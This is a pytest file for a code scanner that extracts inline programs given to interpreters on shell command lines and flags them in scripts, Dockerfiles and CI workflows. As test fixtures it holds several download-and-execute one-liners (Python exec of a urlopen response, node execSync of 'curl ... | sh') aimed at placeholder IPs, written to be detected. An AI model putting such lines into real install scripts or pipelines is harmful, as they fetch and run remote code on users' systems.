"""Programs given to an interpreter on a shell command line (`python3 -c`, `node -e`, `php -r`, `ruby -e`, a
here-document) are analyzed in their own language, in scripts, Dockerfile RUN lines and workflow steps."""
from __future__ import annotations

import pytest

from codescan.analyze import inline_code, languages
from codescan.analyze.document import Analyzer
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules


@pytest.fixture(scope="module")
def analyzer():
    return Analyzer(load_rules(), Config())


def _high(analyzer, path, text):
    found = analyzer.analyze(Document(path=path, content=text.encode())).findings
    return sorted((f.line, f.rule_id) for f in found if f.severity in ("high", "critical"))


def _programs(text):
    source = text.encode()
    return [(p.row, p.column, p.language, p.label, p.code.decode())
            for p in inline_code.find(source, languages.parser("shell").parse(source))]


def test_the_program_word_is_unquoted_and_placed_where_it_starts():
    got = _programs('#!/bin/sh\nsudo -E nohup python3 -u -c "print(\\"a\\"); x = \\$HOME" &\n'
                    "node --require ./hook.js -e 'console.log(1)'\ntimeout 5 php -r 'echo 1;'\n")
    assert got == [(1, 29, "python", "python3 -c", 'print("a"); x = $HOME'),
                   (2, 29, "javascript", "node -e", "console.log(1)"),
                   (3, 18, "php", "php -r", "<?php echo 1;")]


def test_joined_short_options_and_here_documents():
    got = _programs("python3 -Ic 'import os'\ncat x | python3 - <<'EOF'\nimport sys\nprint(sys.argv)\nEOF\n")
    assert got[0][2:] == ("python", "python3 -Ic", "import os")
    assert got[1][:1] == (2,) and got[1][3] == "python3 here-document" and got[1][4] == "import sys\nprint(sys.argv)\n"


def test_a_script_name_ends_the_interpreter_options():
    # -c after the script's name is the script's own option; -m runs a module, not inline code
    assert _programs("python3 manage.py -c 'import os'\npython -m http.server -c x\nnode app.js -e prod\n") == []
    assert _programs("python3 ./tool.py <<EOF\nimport os\nEOF\n") == []


def test_network_code_run_by_python_c_in_a_script_is_reported_on_its_line(analyzer):
    text = ("#!/bin/sh\nset -e\n"
            "python3 -c \"import urllib.request as r; exec(r.urlopen('http://203.0.113.9/s').read())\"\n")
    assert _high(analyzer, "install.sh", text) == [(3, "exec-of-network-response")]
    finding = [f for f in analyzer.analyze(Document(path="install.sh", content=text.encode())).findings
               if f.rule_id == "exec-of-network-response"][0]
    assert text.split("\n")[2][finding.column - 1:].startswith("exec(")  # the column is the script's
    assert "python3 -c" in finding.snippet


def test_here_document_program_keeps_its_own_line_numbers(analyzer):
    text = ("#!/bin/bash\npython3 - <<'PY'\nimport os, urllib.request\n"
            "payload = urllib.request.urlopen('http://198.51.100.4/x').read()\nexec(payload)\nPY\n")
    assert _high(analyzer, "setup.sh", text) == [(5, "exec-of-network-response")]


def test_dockerfile_run_line_and_workflow_step(analyzer):
    docker = ("FROM python:3.12\nRUN pip install -r req.txt \\\n"
              " && python -c \"import urllib.request as u;exec(u.urlopen('http://192.0.2.8/p').read())\"\n")
    assert _high(analyzer, "api_Dockerfile", docker) == [(3, "exec-of-network-response")]
    workflow = ("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
                "      - run: node -e \"require('child_process').execSync('curl -s http://192.0.2.7/i | sh')\"\n")
    assert [rule for _line, rule in _high(analyzer, ".github/workflows/ci.yml", workflow)] \
        and all(line == 6 for line, _rule in _high(analyzer, ".github/workflows/ci.yml", workflow))


@pytest.mark.parametrize("line", [
    "python3 -c \"import sys; print(sys.version_info[:2])\"",
    "python -c 'import json,sys; print(json.load(sys.stdin)[\"version\"])' < package.json",
    "node -e \"console.log(require('./package.json').version)\"",
    "php -r 'echo PHP_VERSION;'",
    "python3 -c \"import urllib.request; urllib.request.urlopen('https://pypi-mirror.internal/health')\"",
])
def test_ordinary_one_liners_are_not_reported(analyzer, line):
    assert _high(analyzer, "ci.sh", "#!/bin/sh\n" + line + "\n") == []


def test_wrappers_and_their_option_values_are_skipped_as_the_shell_adapter_skips_them():
    got = _programs("sudo -u app -E python3 -c 'import os'\nexec gosu app node -e 'x()'\n"
                    "ionice -c 3 nice -n 10 ruby -e 'puts 1'\nenv -u HOME X=1 timeout 5 php -r 'echo 1;'\n")
    assert [(row, language) for row, _col, language, _label, _code in got] == \
        [(0, "python"), (1, "javascript"), (2, "ruby"), (3, "php")]
